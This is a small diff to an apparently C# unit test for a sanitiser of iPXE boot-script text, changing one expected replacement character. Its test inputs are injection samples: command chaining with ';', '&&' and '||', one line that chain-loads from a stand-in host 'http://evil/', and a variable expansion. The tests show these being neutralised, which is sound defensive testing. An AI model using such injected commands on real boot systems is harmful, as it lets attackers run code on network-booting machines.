@@ -6,7 +6,7 @@ namespace Sidus.Wire.Tests.Ipxe;
 public sealed class IpxeTextTests
 {
     [Theory]
-    [InlineData("image a ; shell", "image a ? shell")]
+    [InlineData("image a ; shell", "image a , shell")]
     [InlineData("x || chain http://evil/", "x ?? chain http://evil/")]
     [InlineData("x && shell", "x ?? shell")]
     [InlineData("${net0/mac} #comment", "??net0/mac? ?comment")]
